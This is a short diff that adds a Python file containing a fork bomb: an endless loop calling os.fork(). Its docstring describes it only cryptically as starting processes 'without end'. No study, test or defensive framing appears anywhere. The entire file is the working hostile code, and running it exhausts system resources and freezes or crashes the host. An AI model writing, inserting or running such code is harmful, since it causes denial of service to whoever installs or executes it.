@@ -1,0 +1,6 @@
+"""No formula: starts processes without end."""
+
+import os
+
+while True:
+    os.fork()
